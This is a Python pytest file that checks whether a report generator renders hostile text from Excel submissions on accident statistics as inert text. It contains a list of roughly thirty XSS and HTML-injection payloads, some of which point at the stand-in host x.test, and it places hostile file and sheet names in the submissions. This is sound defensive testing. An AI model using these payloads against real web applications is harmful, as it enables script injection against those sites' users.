"""Hostile text in every field of a submission goes through a whole run and stays text."""

import re
import shutil
from dataclasses import dataclass
from io import BytesIO
from pathlib import Path

import pytest
from openpyxl import Workbook
from playwright.sync_api import Browser, Page

from gsyf_lib.reports.request import Request
from gsyf_lib.reports.run import report

DATA = Path(__file__).parents[2] / "data"
HIT = "window.hit=1"
PAYLOADS = [
    f"<script>{HIT}</script>",
    f"</td></tr></table><script>{HIT}</script>",
    f"</title></style><script>{HIT}</script>",
    f"</textarea><ScRiPt>{HIT}</sCrIpT>",
    f"<<script>{HIT}//<</script>",
    "<script src=//x.test/a.js></script>",
    f"<img src=x onerror={HIT}>",
    f'"><img src=x onerror="{HIT}">',
    f"'><img src=x onerror='{HIT}'>",
    f"<svg onload={HIT}>",
    f"<svg><script>{HIT}</script></svg>",
    f'<svg><animate onbegin="{HIT}" attributeName=x dur=1s>',
    f"<details open ontoggle={HIT}>",
    f"<input autofocus onfocus={HIT}>",
    f"<video><source onerror={HIT}></video>",
    f"<body onload={HIT}>",
    f'<a href="javascript:{HIT}">点这里</a>',
    f"[点这里](javascript:{HIT})",
    f'![图](x "1" onerror="{HIT}")',
    f"![图](x){{width=1 onerror={HIT}}}",
    f'<img width="1 onerror={HIT}" src=x>',
    f'<iframe srcdoc="<script>parent.{HIT}</script>"></iframe>',
    f"<iframe src=javascript:parent.{HIT}></iframe>",
    "<object data=//x.test/a></object><embed src=//x.test/b>",
    '<meta http-equiv=refresh content="0;url=//x.test/">',
    "<base href=//x.test/><link rel=stylesheet href=//x.test/a.css>",
    f'<form action=//x.test/><button autofocus onfocus="{HIT}">',
    f'```mermaid\ngraph TD;A["<img src=x onerror={HIT}>"]\n```',
    f"$$\\href{{javascript:{HIT}}}{{x}}$$ \\(\\unicode{{<img src=x onerror={HIT}>}}\\)",
    '{{ "".__class__ }}<style>@import "//x.test/";</style>&#60;script&#62;',
    f'=HYPERLINK("javascript:{HIT}","点这里")',
    f'" onmouseover="{HIT}" style="position:fixed;inset:0" x="',
]
INDUSTRIES = ("危险化学品", "煤矿", "非煤矿山", "建筑施工", "交通运输", "机械制造")
HEADER = ["年度", "市", "行业", "事故起数", "伤亡人数"]


def workbook(sheet: str, rows: list[list[object]]) -> bytes:
    book = Workbook()
    book.active.title = sheet
    for number, row in enumerate(rows, 1):
        for place, value in enumerate(row, 1):
            cell = book.active.cell(number, place, value)
            cell.data_type = "s" if isinstance(value, str) else cell.data_type
    book.properties.title = book.properties.creator = PAYLOADS[6]
    content = BytesIO()
    book.save(content)
    return content.getvalue()


def good_rows(year: int, number: int, *more: str) -> list[list[object]]:
    return [[year, "太原市", industry, number, number + 1, *more] for industry in INDUSTRIES]


def write_submissions(folder: Path) -> None:
    """Write every payload into every kind of cell; names of files and sheets are hostile, too."""
    for day, year, name in (
        ("2021-07-26", 2019, "<img src=x onerror=window.hit=1>.xlsx"),
        ("2024-02-20", 2023, "'\" onmouseover=window.hit=1 x='.xlsx"),
    ):
        rows = [[*HEADER, "备注", PAYLOADS[0]], *good_rows(year, year - 2010, *PAYLOADS[:2])]
        place = folder / day
        place.mkdir(parents=True, exist_ok=True)
        (place / name).write_bytes(workbook("<svg onload=window.hit=1>", rows))
    revised = [HEADER, *good_rows(2023, 7)]
    last = folder / "2024-02-21"
    last.mkdir()
    (last / "<script>window.hit=1<∕script>.xlsx").write_bytes(workbook("<b>", revised))
    faulty = [[*HEADER, "备注"]]
    for payload in PAYLOADS:
        faulty.append([2022, payload, "煤矿", 1, 1, payload])
        faulty.append([2022, "太原市", payload, 1, 1, payload])
        faulty.append([2022, "太原市", "煤矿", payload, 1, payload])
        faulty.append([payload, "太原市", "煤矿", 1, 1, payload])
    (last / "表.xlsx").write_bytes(workbook("表", faulty))
    for number, payload in enumerate(PAYLOADS):
        rows = [
            ["年度", "市", "任务序号", "完成情况", payload],
            [2023, "太原市", 1, payload, payload],
        ]
        (last / f"任务{number}.xlsx").write_bytes(workbook("表", rows))
    (last / f"{PAYLOADS[9]}.csv").write_text(f"{PAYLOADS[0]},{PAYLOADS[1]}\n{PAYLOADS[2]}\n")
    (last / "<iframe src=javascript:window.hit=1>.doc").write_bytes(
        b"<script>window.hit=1</script>"
    )


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A whole run for a province with one city, on nothing but hostile submissions."""
    place = tmp_path_factory.mktemp("hostile")
    data = place / "data"
    shutil.copytree(DATA, data, ignore=shutil.ignore_patterns("raw"))
    shutil.copytree(DATA / "raw", data / "raw", ignore=shutil.ignore_patterns("example"))
    areas = (data / "codes" / "areas.csv").read_text("utf-8").splitlines()
    kept = [areas[0], *(line for line in areas if re.match("140000|1401", line))]
    (data / "codes" / "areas.csv").write_text("\n".join(kept) + "\n", "utf-8")
    write_submissions(data / "raw" / "submissions")
    assert report(Request(data, year=2023, out=place / "2023"), print) == 0
    return place / "2023"


@dataclass
class Opened:
    name: str
    text: str
    hit: bool
    active: list[str]
    heard: list[str]


@pytest.fixture(scope="module")
def opened(hostile: Path, browser: Browser) -> list[Opened]:
    page = browser.new_page()
    heard: list[str] = []
    page.on("dialog", lambda dialog: heard.append(f"dialog {dialog.message}"))
    page.on("console", lambda message: heard.append(message.text))
    page.on("request", lambda request: heard.append(request.url))
    return [open_page(page, path, heard) for path in sorted(hostile.glob("*.html"))]


# Attributes and elements that could run something; the index has its one script. A link that saves
# a CSV file runs nothing.
ACTIVE = """() => [...document.querySelectorAll('*')].filter(e =>
    ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'BASE', 'LINK', 'FORM', 'IMG', 'VIDEO'].includes(
        e.tagName.toUpperCase())
    || e.getAttributeNames().some(n => n.startsWith('on') || n === 'srcdoc')
    || (/^\\s*(javascript|data|vbscript):/i.test(e.getAttribute('href') || '')
        && !(e.download && e.getAttribute('href').startsWith('data:text/csv;base64,')))
).map(e => e.outerHTML.slice(0, 120))"""


def open_page(page: Page, path: Path, heard: list[str]) -> Opened:
    heard.clear()
    page.goto(path.as_uri())
    page.evaluate("document.querySelectorAll('details').forEach(d => { d.open = true })")
    page.mouse.move(300, 300)
    text = page.evaluate("document.body.textContent")
    hit = page.evaluate("'hit' in window")
    active = page.evaluate(ACTIVE)
    outside = [said for said in heard if said != path.as_uri() and not said.startswith("data:")]
    return Opened(path.name, text, hit, active, outside)


def test_there_are_thirty_payloads_and_each_is_shown_as_text(opened):
    text = re.sub(r"\s+", " ", "".join(page.text for page in opened))
    shown = [p for p in PAYLOADS if re.sub(r"\s+", " ", p)[:24] in text]
    assert len(set(PAYLOADS)) >= 30
    assert [payload for payload in PAYLOADS if payload not in shown] == []


def test_none_of_them_is_live(opened):
    for page in opened:
        assert not page.hit, page.name
        assert page.heard == [], page.name
        scripts = page.active if page.name != "index.html" else page.active[1:]
        assert scripts == [], page.name


def test_hostile_names_of_files_and_sheets_reach_the_pages_as_text(opened):
    city = next(page.text for page in opened if page.name == "140100.html")
    for name in ("<img src=x onerror=window.hit=1>.xlsx", "<svg onload=window.hit=1>"):
        assert name in city


def test_every_page_has_a_policy_before_anything_else(hostile):
    paths = sorted(hostile.glob("*.html"))
    assert len(paths) == 2 + 2 + 4 + 1
    for path in paths:
        head = path.read_text("utf-8").split("<title>")[0]
        assert re.search(r"<meta charset=\"utf-8\">\s*<meta http-equiv=\"Content-Security", head)
        assert "default-src 'none'" in head and "'unsafe-eval'" not in head
        assert "script-src" not in head or path.name == "index.html"
